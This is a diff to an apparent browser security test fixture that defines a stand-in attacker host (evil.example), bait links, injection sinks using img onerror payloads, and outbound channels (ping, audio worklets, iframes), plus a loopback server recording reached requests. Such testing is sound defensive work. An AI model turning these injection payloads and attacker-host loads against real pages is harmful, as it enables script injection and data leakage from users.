@@ -1,3 +1,5 @@
+import { startServer } from "../../support/loopback-server.ts";
+
 /** Another site. Its files NAME.js run `hacked.NAME = 1`. */
 export const EVIL = "https://evil.example";
 
@@ -65,6 +67,12 @@ export const BAITS: Trials = {
 	ping: `<a data-bait href="#x" ping="${EVIL}/ping">x</a>`,
 };
 
+/** Code that presses each of the baits. */
+export const PRESSES = Object.keys(BAITS).map(
+	(_, n) =>
+		`document.querySelectorAll("[data-bait]")[${n}].dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))`,
+);
+
 /** Code of a page that puts an attacker's text where markup, code or a script's address is expected. */
 export const SINKS: Trials = {
 	innerHTML: "host.innerHTML = img('innerHTML')",
@@ -130,3 +138,29 @@ export const CHANNELS: Trials = {
 	worklet: `new AudioContext().audioWorklet.addModule('${EVIL}/worklet')`,
 	frame: `host.appendChild(document.createElement('iframe')).src = '${EVIL}/frame'`,
 };
+
+/** Starts Evil, which adds the names of requests to `reached`, and has these pages by name. */
+export const startEvil = (reached: Set<string>, pages: ReadonlyMap<string, string> = new Map()) =>
+	startServer((request) => {
+		const [name = "", extension] = new URL(request.url).pathname.slice(1).split(".");
+		const page = pages.get(name);
+		if (page) return new Response(page, { headers: { "content-type": "text/html" } });
+		const headers = { "access-control-allow-origin": "*", "content-type": "text/javascript" };
+		if (extension === "js") return new Response(`hacked.${name} = 1`, { headers });
+		reached.add(name);
+		return new Response(null, { status: 204, headers });
+	});
+
+/** Code that defines `next`, which runs the statements, each in a task of its own, and `last` ms after them calls `done`. */
+export const defineNext = (code: readonly string[], pause: number, last: number) => `
+	const img = (name) => '<img src="x:" onerror="hacked.' + name + '=1">';
+	const script = (change) => { const s = document.createElement("script"); change(s); document.body.append(s); };
+	const tasks = [${code.map((statements) => `(host) => { ${statements} }`).join()}];
+	const next = () => {
+		const task = tasks.shift();
+		if (!task) return setTimeout(done, ${last});
+		setTimeout(next, ${pause});
+		const host = document.body.appendChild(document.createElement("div"));
+		host.id = "host";
+		task(host);
+	};`;
